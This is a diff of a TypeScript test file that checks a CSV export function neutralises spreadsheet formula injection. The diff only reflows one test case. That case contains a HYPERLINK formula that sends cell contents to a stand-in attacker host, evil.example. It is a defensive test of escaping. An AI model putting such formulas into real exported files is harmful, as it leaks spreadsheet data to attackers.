@@ -3,7 +3,10 @@ import { csvCell, csvFromColumns, defuseFormula, toCsv, UTF8_BOM } from './csv';
 
 describe('csvCell: formula defusing (OWASP CSV injection)', () => {
   it.each([
-    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
+    [
+      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
+    ],
     ['=1+1', `"'=1+1"`],
     ['+1', `"'+1"`],
     ['-2+3', `"'-2+3"`],
